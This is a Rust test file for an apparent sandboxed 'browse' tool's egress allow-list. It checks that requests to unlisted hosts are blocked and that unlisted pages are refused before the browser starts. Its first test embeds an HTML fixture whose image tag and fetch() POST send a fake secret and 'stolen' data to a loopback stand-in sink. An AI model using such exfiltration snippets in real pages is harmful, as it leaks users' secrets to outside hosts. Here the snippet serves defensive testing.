//! `browse` under the egress allow-list (`[net] egress = "allowlist"`, the default): the page's
//! own URL is judged before the browser starts, and every request the page makes is judged by
//! the screening proxy. Test servers on 127.0.0.2 and 127.0.0.3, both let through by the
//! private-address rules (`[net] allow`), stand in for public hosts: only `allow_domains` decides.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use serde_json::json;
use vak_guard::GuardSettings;
use vak_tool_core::{Registry, ToolContext};

use super::server::{Counter, Server};
use super::{
    Setup, TEST_HOST, browser_or_skip, deadline, error_text, html, marking_browser, ok_text,
};

/// A second stand-in host, for what the page reaches out to.
const OTHER_HOST: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 3));
const SECRET: &str = "k=sekrit-b7c1";

/// The default allow-list with these `allow_domains`; 127.0.0.2 and 127.0.0.3 let through by
/// `[net] allow`.
fn allowlist(allow_domains: &[String]) -> GuardSettings {
    GuardSettings::default()
        .with_allow(["127.0.0.2/31"])
        .with_allow_domains(allow_domains.iter().cloned())
}

fn setup_allowlist(browser: &std::path::Path, allow_domains: &[String]) -> Setup {
    super::setup_guarded(
        Some(browser),
        &deadline(Duration::from_secs(20)),
        &allowlist(allow_domains),
    )
}

#[tokio::test]
async fn a_request_of_the_page_to_an_unlisted_host_never_reaches_it() {
    let Some(browser) =
        browser_or_skip("a_request_of_the_page_to_an_unlisted_host_never_reaches_it")
    else {
        return;
    };
    let sink = Counter::start(OTHER_HOST).await;
    let page = html(&format!(
        "<p id=status>rendered</p>\
         <img src=\"http://{sink}/pixel.png?{SECRET}\">\
         <script>\
         fetch('http://{sink}/?{SECRET}', {{method: 'POST', body: 'stolen'}}).catch(() => {{}});\
         document.getElementById('status').textContent = 'rendered by script';\
         </script>",
        sink = sink.addr,
    ));
    let server = Server::start(TEST_HOST, vec![("/", page)]).await;
    let listed = [server.addr.to_string()];

    let setup = setup_allowlist(&browser, &listed);
    let text = ok_text(&setup.browse(json!({"url": server.url("/")})).await);
    assert!(text.contains("rendered by script"), "{text}");
    let header = text.split("\n\n").next().unwrap();
    assert!(header.contains(&sink.addr.to_string()), "{header}");
    assert!(header.contains("not on the egress allow-list"), "{header}");
    assert_eq!(sink.connections(), 0, "the unlisted host was reached");
    setup.assert_nothing_left();

    // The same page with the sink listed reaches it: the test can see a leak.
    let listed = [server.addr.to_string(), sink.addr.to_string()];
    let setup = setup_allowlist(&browser, &listed);
    ok_text(&setup.browse(json!({"url": server.url("/")})).await);
    assert!(sink.connections() > 0, "the listed host was not reached");
    setup.assert_nothing_left();
}

#[tokio::test]
async fn an_unlisted_page_is_refused_before_the_browser_starts_with_the_line_to_add() {
    let bin = tempfile::tempdir().unwrap();
    let (fake, mark) = marking_browser(bin.path());
    let sink = Counter::start(TEST_HOST).await;
    let ctx = ToolContext::new(bin.path())
        .unwrap()
        .with_env([("VAK_BROWSER".into(), fake.clone().into())]);
    let mut registry = Registry::new();
    vak_tool_browse::register(
        &mut registry,
        &deadline(Duration::from_secs(20)),
        &allowlist(&[]),
    );
    let url = format!("http://{}/?{SECRET}", sink.addr);
    let text = error_text(&registry.call("browse", json!({"url": url}), &ctx).await);
    assert!(text.contains("the browser was not started"), "{text}");
    assert!(text.contains("not on the egress allow-list"), "{text}");
    assert!(
        text.contains(&format!("allow_domains = [\"{}\"]", sink.addr)),
        "{text}"
    );
    assert!(!mark.exists(), "the browser was started");
    assert_eq!(sink.connections(), 0);
}
